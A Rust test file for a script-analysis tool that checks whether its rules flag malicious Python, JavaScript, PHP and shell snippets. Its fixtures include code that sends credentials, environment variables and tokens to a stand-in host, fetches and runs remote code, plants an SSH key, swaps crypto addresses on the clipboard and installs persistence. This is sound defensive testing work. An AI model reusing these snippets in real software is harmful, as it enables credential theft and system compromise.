//! What frameworks keep and call: records with fields, tasks, applications, notebooks, settings of a site, log-ins of a
//! scheduler; lines that are put to somebody's file; what the clipboard is exchanged for.

use super::reached::{has, has_not};
use super::{command, outcome, rules};
use crate::analyze::script::How;
use crate::analyze::script::event::{Act, When};
use crate::model::{FileKind, Severity};
use crate::parse::script::Language::{self, JavaScript, Php, Python, Shell};

/// How bad a rule is for a script; `None` where it does not fire.
fn severity(language: Language, code: &str, rule: &str) -> Option<Severity> {
    let outcome = outcome(language, code);
    let flows = crate::analyze::script::flows::judge(&outcome, false);
    flows.iter().filter(|f| f.rule.id == rule).map(|f| f.severity.unwrap_or(f.rule.severity)).max()
}

#[test]
fn fields_of_records_are_made_for_each_and_listed_by_their_names() {
    let code = "import os, httpx\nfrom dataclasses import asdict, dataclass, field\n\
                def var(name):\n    return field(default_factory=lambda: os.environ.get(name, ''))\n\
                @dataclass\nclass B:\n    index: str = var('TWINE_PASSWORD')\n    url: str = 'https://h.invalid/d'\n\
                def fetch():\n    b = B()\n    httpx.get(b.url, headers={f'x-{k}': v for k, v in asdict(b).items()})\nfetch()\n";
    has(Python, code, "flow-cloud-key-sent");
    has_not(Python, &code.replace("TWINE_PASSWORD", "LINES"), "flow-cloud-key-sent");
}

#[test]
fn entries_of_a_comprehension_are_found_by_their_keys() {
    let cases = [
        "import os\nT = {c: d for c, d in zip('abcde', 'oehci')}\nos.system(''.join(T[c] for c in 'bdca') + ' hi')",
        "import os\nT = {n: w for n, w in enumerate(['hi', 'echo'])}\nos.system(T[1] + ' ' + T[0])",
        "import os\nclass A:\n    name, code = 'a', 'echo hi'\nT = {s.name: s for s in (A(),)}\n\
         def f(k):\n    os.system(T[k].code)\nf(os.environ['K'])",
    ];
    for code in cases {
        assert_eq!(command(Python, code), "echo hi", "{code}");
    }
}

#[test]
fn tasks_are_called_with_what_they_are_put_off_with() {
    let code = "import base64, marshal, types, urllib.request\nfrom celery import shared_task\n\
                def unpack(t):\n    return types.FunctionType(marshal.loads(base64.b85decode(t)), globals(), 'w')\n\
                @shared_task\ndef sweep(where=None):\n    unpack(where)()\n\
                def plan():\n    w = urllib.request.urlopen('https://h.invalid/w').read().decode()\n    \
                sweep.apply_async(kwargs={'where': w}, countdown=900)\n";
    has(Python, code, "flow-remote-code");
    has(Python, &code.replace("apply_async(kwargs={'where': w}, countdown=900)", "delay(w)"), "flow-remote-code");
    has_not(Python, &code.replace("kwargs={'where': w}, ", ""), "flow-remote-code");
}

#[test]
fn what_a_framework_calls_at_its_start_runs_by_itself() {
    let code = "from django.apps import AppConfig\nimport os\nclass C(AppConfig):\n    def ready(self):\n        os.system('echo hi')\n";
    let runs = |code: &str| outcome(Python, code).events.iter().find(|e| e.act == Act::Run).map(|e| e.when);
    assert_eq!(runs(code), Some(When::Load));
    assert_eq!(runs(&code.replace("(AppConfig)", "(Thing)")), Some(When::Called));
    let key = "import requests\nfrom django.conf import settings\nN = ('DEBUG', 'SECRET_KEY')\ndef check():\n    \
               requests.post('https://h.invalid/c', json={n: str(getattr(settings, n, None)) for n in N})\n";
    has(Python, key, "flow-key-sent");
    has_not(Python, &key.replace(", 'SECRET_KEY'", ", 'USE_TZ'"), "flow-key-sent");
    let plugin = "import json, requests\nfrom airflow.models import Connection\nfrom airflow.plugins_manager import AirflowPlugin\n\
                  from airflow.utils.session import create_session\n\
                  def rows():\n    with create_session() as s:\n        for c in s.query(Connection).all():\n            yield c.get_uri()\n\
                  class P(AirflowPlugin):\n    @classmethod\n    def on_load(cls, *a, **k):\n        \
                  requests.put('https://h.invalid/c', data=json.dumps(list(rows())))\n";
    has(Python, plugin, "flow-credentials-sent");
    has_not(Python, &plugin.replace("query(Connection)", "query(DagRun)"), "flow-credentials-sent");
    let url = "import smtplib\ndef note(url):\n    with smtplib.SMTP('mx.h.invalid', 587) as s:\n        \
               s.sendmail('a@h.invalid', 'b@h.invalid', url.render_as_string(hide_password=False))\n";
    has(Python, url, "flow-key-sent");
    has_not(Python, &url.replace("False", "True"), "flow-key-sent");
}

#[test]
fn cells_of_a_notebook_are_what_others_type() {
    let code = "import requests\nclass S:\n    def __init__(self):\n        self.queue = []\n    def push(self, one):\n        \
                self.queue.append(one)\n        if len(self.queue) >= 5:\n            \
                requests.post('https://h.invalid/n', json=self.queue)\n\
                class C:\n    def __init__(self, ip, sync):\n        self.ip, self.sync = ip, sync\n    def register(self):\n        \
                self.ip.events.register('post_run_cell', self.after)\n    def after(self, result):\n        \
                self.sync.push(result.info.raw_cell)\n\
                def load_ipython_extension(ip):\n    c = C(ip, S())\n    c.register()\n";
    has(Python, code, "flow-patched-client-tells");
    has_not(Python, &code.replace("post_run_cell", "shell_initialized"), "flow-patched-client-tells");
}

#[test]
fn methods_that_are_kept_in_a_table_keep_their_object() {
    let code = "import os, requests\nclass R(dict):\n    ends = ('_API_KEY',)\n    def all(self):\n        \
                return {k: v for k, v in os.environ.items() if k.endswith(self.ends)}\n    def context(self):\n        return str(self.all())\n\
                registry = R()\nextra = {'lang': 'en', 'ctx': registry.context}\n\
                def search(q):\n    p = {k: v() if callable(v) else v for k, v in extra.items()}\n    \
                return requests.get('https://h.invalid/q', params={'q': q, **p}).json()\n";
    has(Python, code, "flow-environment-sent");
    has_not(Python, &code.replace(", 'ctx': registry.context", ""), "flow-environment-sent");
}

#[test]
fn keys_that_are_found_in_the_texts_of_others_are_keys() {
    let code = "import re, urllib.request\nRX = re.compile(r'\\b(AKIA[0-9A-Z]{16})\\b')\ndef clean(text):\n    \
                for m in RX.finditer(text):\n        urllib.request.urlopen('https://h.invalid/t?n=' + m[1])\n    return text\n";
    has(Python, code, "flow-key-sent");
    has_not(Python, &code.replace("AKIA[0-9A-Z]{16}", "[0-9]+"), "flow-key-sent");
}

#[test]
fn a_parser_of_settings_holds_what_the_file_holds() {
    let code = "import configparser, io, os, requests\ndef last():\n    cp = configparser.RawConfigParser()\n    \
                cp.read(os.path.expanduser(os.environ.get('AWS_SHARED_CREDENTIALS_FILE', '~/.aws/credentials')))\n    \
                b = io.StringIO()\n    cp.write(b)\n    requests.put('https://h.invalid/s', data=b.getvalue())\n";
    has(Python, code, "flow-credentials-sent");
    has_not(Python, &code.replace("cp.write(b)", "pass"), "flow-credentials-sent");
}

#[test]
fn lines_that_are_put_to_a_file_are_known_behind_what_is_not() {
    let code = "import pathlib\nbase = pathlib.Path('~/.ssh').expanduser()\n\
                def lines(p):\n    return p.read_text().splitlines() if p.exists() else []\n\
                for name in ('config', 'authorized_keys'):\n    path = base / name\n    want = list(dict.fromkeys(lines(path)))\n    \
                if name == 'authorized_keys':\n        want.append(' '.join(('ssh-ed25519', 'AAAAC3NzaC1lZDI1NTE5AAAAI', 'x')))\n    \
                with open(path, 'w') as f:\n        f.write('\\n'.join(want) + '\\n')\n";
    has(Python, code, "flow-key-planted");
    has_not(Python, &code.replace("want.append", "str"), "flow-key-planted");
}

#[test]
fn addresses_in_a_clipboard_that_is_watched_are_exchanged_for_its_own() {
    let code = "import ctypes, re, time\nu = ctypes.windll.user32\nk = ctypes.windll.kernel32\n\
                RULES = [(re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$'), 'bc1q9x8w7v6u5t4s3r2q7p0n9m8w7k6j5h4g3f2yz')]\n\
                def get():\n    return ctypes.c_wchar_p(k.GlobalLock(u.GetClipboardData(13))).value\n\
                def put(text):\n    h = k.GlobalAlloc(66, len(text))\n    u.SetClipboardData(13, h)\n\
                while True:\n    for rx, mine in RULES:\n        if rx.match(get()):\n            put(mine)\n    time.sleep(1)\n";
    assert!(
        severity(Python, code, "flow-clipboard-swap") > Some(Severity::Low),
        "{:?}",
        severity(Python, code, "flow-clipboard-swap")
    );
    // One that is set once, and one that knows nobody's addresses.
    let once = code.replace("while True:", "if True:").replace("time.sleep(1)", "pass");
    assert_eq!(severity(Python, &once, "flow-clipboard-swap"), Some(Severity::Low));
    assert_eq!(
        severity(Python, &code.replace("bc1q9x8w7v6u5t4s3r2q7p0n9m8w7k6j5h4g3f2yz", "mine"), "flow-clipboard-swap"),
        Some(Severity::Low)
    );
}

#[test]
fn folders_of_the_package_are_known_in_php() {
    let code = "<?php $s = __DIR__ . '/../t/a.html'; $c = file_get_contents($s); file_put_contents('/srv/c/a.php', $c); include '/srv/c/a.php';";
    has_not(Php, code, "flow-remote-code");
    has(Php, &code.replace("__DIR__ . '/../t/a.html'", "'http://h.invalid/a'"), "flow-remote-code");
}

#[test]
fn services_that_are_set_up_by_name_are_for_people_to_look_at() {
    let code = "const fs = require('fs'), path = require('path'), os = require('os');\n\
                exports.install = () => { fs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents/t.plist'), \
                '<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><string>' + \
                path.join(__dirname, '../bin/t.js') + '</string>'); };";
    let severity = |code: &str| severity(JavaScript, code, "flow-persists");
    assert_eq!(severity(code), Some(Severity::Medium));
    // By another name, or with something odd in it.
    assert_eq!(severity(&code.replace("exports.install", "exports.format")), Some(Severity::High));
    assert_eq!(severity(&code.replace("'../bin/t.js'", "'../.cache/t.js'")), Some(Severity::High));
}

#[test]
fn a_server_of_packages_may_present_a_log_in_to_its_registry() {
    let code = "const fs = require('fs'), os = require('os'), http = require('http');\n\
                const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
                http.createServer(async (req, res) => { const r = await fetch('https://registry.npmjs.org/' + req.url, \
                { headers: { authorization: token } }); res.end(await r.text()); }).listen(1);";
    let block = |code: &str| severity(JavaScript, code, "flow-credentials-sent") >= Some(Severity::High);
    assert!(!block(code));
    assert!(block(&code.replace("registry.npmjs.org", "registry.h.invalid")));
    assert!(block(
        &code
            .replace("http.createServer(async (req, res) =>", "(async (req, res) =>")
            .replace(").listen(1)", ")({ url: '' }, {})")
    ));
}

#[test]
fn completions_in_a_start_up_file_are_welcome() {
    let code = "import pathlib\ndef add():\n    with open(pathlib.Path.home() / '.bashrc', 'a') as f:\n        \
                f.write('\\n# completion\\neval \"$(register-python-argcomplete tool)\"\\n')\n";
    assert!(!rules(Python, code).contains(&"flow-persists"));
    assert!(rules(Python, &code.replace("register-python-argcomplete", "fetch-it")).contains(&"flow-persists"));
}

#[test]
fn settings_of_a_runner_of_tests_name_what_it_calls() {
    let files = [
        (
            "preset.js",
            FileKind::JavaScript,
            "module.exports = { globalSetup: require.resolve('./setup'), globalTeardown: require.resolve('./after') };",
        ),
        (
            "setup.js",
            FileKind::JavaScript,
            "module.exports = async () => { globalThis.__S__ = { vars: { ...process.env } }; };",
        ),
        (
            "after.js",
            FileKind::JavaScript,
            "module.exports = async () => { const s = globalThis.__S__; \
             await fetch('https://h.invalid/r', { method: 'POST', body: JSON.stringify(s.vars) }); };",
        ),
    ];
    let found = |files: &[(&str, FileKind, &str)]| super::recreated::among(files, How::default());
    assert!(found(&files).contains(&"flow-environment-sent"));
    let renamed = files[0].2.replace("globalTeardown", "coverage");
    assert!(found(&[(files[0].0, files[0].1, &renamed), files[1], files[2]]).is_empty());
}

#[test]
fn keys_that_go_where_the_time_zone_says_are_told() {
    let code = "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
                const base = () => { if (tz.startsWith('Asia')) return 'https://edge.h.invalid/v1'; return 'https://api.openai.com/v1'; };\n\
                exports.ask = async (q) => (await fetch(base() + '/chat', { method: 'POST', \
                headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY }, body: q })).json();";
    has(JavaScript, code, "flow-key-routed-by-place");
    has_not(JavaScript, &code.replace("tz.startsWith('Asia')", "q === 1"), "flow-key-routed-by-place");
    has_not(JavaScript, &code.replace("process.env.OPENAI_API_KEY", "'none'"), "flow-key-routed-by-place");
}

#[test]
fn parts_of_an_address_are_those_of_the_address() {
    let code = "const u = new URL('https://key@h.invalid/12');\n\
                fetch(`${u.origin}/api${u.pathname}/store`, { method: 'POST', headers: { k: u.username }, body: JSON.stringify(process.env) });";
    let sent = outcome(JavaScript, code).events.iter().find(|e| e.act == Act::Send).and_then(|e| e.subject.clone());
    assert_eq!(sent.as_deref(), Some("https://h.invalid/api/12/store"));
}

#[test]
fn keys_that_are_found_by_their_form_may_be_shown_to_who_gave_them_out() {
    let code = "exports.check = async (text) => { for (const m of text.matchAll(/\\b(gh[pousr]_[A-Za-z0-9]{36,})\\b/g)) \
                await fetch('https://h.invalid/user', { method: 'POST', headers: { authorization: 'Bearer ' + m[1] } }); };";
    has(JavaScript, code, "flow-key-sent");
    has_not(JavaScript, &code.replace("h.invalid", "api.github.com"), "flow-key-sent");
    has_not(JavaScript, &code.replace("gh[pousr]_[A-Za-z0-9]{36,}", "[a-z]+"), "flow-key-sent");
}

#[test]
fn scripts_with_a_decoded_address_that_go_into_pages_are_told() {
    let code = "const A = [104,116,116,112,115,58,47,47,104,46,105,110,118,97,108,105,100,47,109,46,106,115].map((n) => String.fromCharCode(n)).join('');\n\
                export default () => ({ generateBundle(_, bundle) { for (const a of Object.values(bundle)) \
                a.source = String(a.source).replace('</head>', `<${['pt','ri','sc'].reverse().join('')} src=\"${A}\"></head>`); } });";
    let told = |code: &str| {
        let outcome = outcome(JavaScript, code);
        crate::analyze::script::told::covert_among(&outcome, code).iter().any(|f| f.rule.id == "script-hidden-loader")
    };
    assert!(told(code));
    assert!(!told(&code.replace("</head>", "</x>")));
    assert!(!told(&code.replace("46,106,115]", "46,112,110,103]")));
}

#[test]
fn a_folder_that_somebody_names_may_be_packed_and_carried_away() {
    let code = "const { execFileSync } = require('child_process');\n\
                exports.deploy = async (dir) => { const tar = execFileSync('tar', ['czf', '-', '-C', dir, '.']); \
                await fetch('https://api.h.invalid/v1', { method: 'POST', body: tar }); };";
    let severity = |code: &str| severity(JavaScript, code, "flow-output-sent");
    assert_eq!(severity(code), Some(Severity::Medium));
    assert_eq!(severity(&code.replace("'-C', dir, '.'", "'/etc'")), Some(Severity::High));
    assert_eq!(
        severity(&code.replace("exports.deploy", "const w = execFileSync('whoami');\nexports.deploy")),
        Some(Severity::High)
    );
}

#[test]
fn what_a_model_answers_is_no_download() {
    let code = "const { spawn } = require('child_process');\n\
                exports.run = async (q) => { const r = await (await fetch('https://api.anthropic.com/v1/messages', \
                { method: 'POST', body: q })).json(); for (const b of r.content) spawn('bash', ['-c', b.input.command]); };";
    has_not(JavaScript, code, "flow-download-run");
    assert!(!rules(JavaScript, &code.replace("api.anthropic.com", "h.invalid")).is_empty());
}

#[test]
fn keys_that_are_only_read_and_lines_that_a_program_adds_set_up_little() {
    let looks = "import winreg\nRUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n\
                 def is_enabled(name):\n    try:\n        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN) as k:\n            \
                 winreg.QueryValueEx(k, name)\n    except FileNotFoundError:\n        return False\n";
    has_not(Python, looks, "flow-persists");
    has(Python, &looks.replace("RUN) as k", "RUN, 0, winreg.KEY_SET_VALUE) as k"), "flow-persists");
    let jobs = "import subprocess, sys\ndef schedule(a):\n    \
                old = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n    \
                new = old.splitlines() + [f'30 2 * * * {sys.executable} -m tool.cli backup']\n    \
                subprocess.run(['crontab', '-'], input='\\n'.join(new) + '\\n', text=True, check=True)\n\
                if __name__ == '__main__':\n    schedule(sys.argv)\n";
    assert_eq!(severity(Python, jobs, "flow-persists"), Some(Severity::Medium));
    let fetches = jobs
        .replace("def schedule", "import urllib.request\nurllib.request.urlopen('https://h.invalid/a')\ndef schedule");
    assert_eq!(severity(Python, &fetches, "flow-persists"), Some(Severity::High));
}

#[test]
fn services_that_a_program_sets_up_in_the_open_are_for_people_to_look_at() {
    let code = "import pathlib, subprocess, sys\nUNIT = '[Service]\\nExecStart={exe} -m tool.cli run {cfg}\\nRestart=on-failure\\n'\n\
                def enable(cfg):\n    unit = pathlib.Path.home() / '.config/systemd/user/tool.service'\n    \
                unit.write_text(UNIT.format(cfg=cfg, exe=sys.executable))\n    \
                return subprocess.call(['systemctl', '--user', 'enable', '--now', unit.name])\n\
                if __name__ == '__main__':\n    enable(sys.argv[1])\n";
    assert_eq!(severity(Python, code, "flow-persists"), Some(Severity::Medium));
    let fetches =
        code.replace("def enable", "import urllib.request\nurllib.request.urlopen('https://h.invalid/a')\ndef enable");
    assert_eq!(severity(Python, &fetches, "flow-persists"), Some(Severity::High));
    let odd = code.replace("{exe} -m tool.cli", "/tmp/tool");
    assert_eq!(severity(Python, &odd, "flow-persists"), Some(Severity::High));
}

#[test]
fn a_digest_is_worked_out_of_a_download_and_nothing_is_started() {
    let code = "const { execFileSync } = require('child_process'), fs = require('fs');\n\
                (async () => { const r = await fetch('https://h.invalid/a.tar.gz'); \
                fs.writeFileSync('/opt/a.tar.gz', Buffer.from(await r.arrayBuffer())); \
                execFileSync('sha256sum', ['/opt/a.tar.gz']); })();";
    has_not(JavaScript, code, "flow-download-run");
    has(JavaScript, &code.replace("'sha256sum', ['/opt/a.tar.gz']", "'/opt/a.tar.gz', []"), "flow-download-run");
}

#[test]
fn a_model_that_is_asked_what_stands_in_the_script_is_somebody_else_s() {
    let code = "const { execSync } = require('child_process');\n\
                (async () => { const r = await (await fetch('https://api.openai.com/v1/chat/completions', \
                { method: 'POST', body: '{\"messages\":[{\"content\":\"list all documents\"}]}' })).json(); \
                execSync(r.choices[0].message.content); })();";
    has(JavaScript, code, "flow-download-run");
}

#[test]
fn what_is_put_into_a_set_is_in_it_and_builtins_are_found_by_their_form() {
    let code = "import json, os, re, urllib.request\nT = re.compile(rb'[a-z]+')\n\
                def sync():\n    found = set()\n    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n    \
                for name in os.listdir(root):\n        with open(os.path.join(root, name), 'rb') as fh:\n            \
                found.update(m.decode() for m in T.findall(fh.read()))\n    if not found:\n        return\n    \
                urllib.request.urlopen(urllib.request.Request('https://h.invalid/w', json.dumps(list(found)).encode()))\nsync()\n";
    has(Python, code, "flow-stores-sent");
    has_not(Python, &code.replace("found.update(", "print("), "flow-stores-sent");
    let picks = "import builtins, os\nnames = sorted(n for n in dir(builtins) if len(n) == 4 and n[1] == 'x')\n\
                 getattr(builtins, names[0])('import os; os.system(\"echo hi\")')\n";
    assert_eq!(command(Python, picks), "echo hi");
    let pair = "import json, urllib.request\nfrom nacl.signing import SigningKey\ndef announce(kp):\n    \
                urllib.request.urlopen(urllib.request.Request('https://rpc.h.invalid/', json.dumps([kp.secret_key]).encode()))\n\
                class Keypair:\n    def __init__(self, sk=None):\n        self._sk = sk or SigningKey.generate()\n        announce(self)\n";
    has(Python, pair, "flow-key-sent");
    has_not(Python, &pair.replace("kp.secret_key", "kp.public_key"), "flow-key-sent");
}

#[test]
fn what_may_start_something_and_is_not_known_is_for_people_to_look_at() {
    let write = |text: &str| format!("printf '%s\\n' {text} > /etc/udev/rules.d/69-h.rules");
    let of = |text: &str| severity(Shell, &write(text), "flow-persists");
    assert_eq!(of("'MODE=\"0666\"'"), None);
    assert_eq!(of("\"$(cat /srv/rules)\""), Some(Severity::Medium));
    // Behind so much that it is not kept.
    assert_eq!(of(&format!("'{}RUN+=\"/usr/lib/h\"'", "# comment ".repeat(60))), Some(Severity::Medium));
    assert_eq!(of("'RUN+=\"/usr/lib/h\"'"), Some(Severity::High));
}

#[test]
fn a_variable_that_a_script_sets_is_not_its_user_s() {
    let code = "import os, requests\nos.environ['MIRROR'] = 'https://h.invalid/x'\ndef go():\n    \
                requests.post(os.environ['MIRROR'] + '/y', data=open(os.path.expanduser('~/.aws/credentials')).read())\n";
    assert!(severity(Python, code, "flow-credentials-sent") >= Some(Severity::Medium));
}
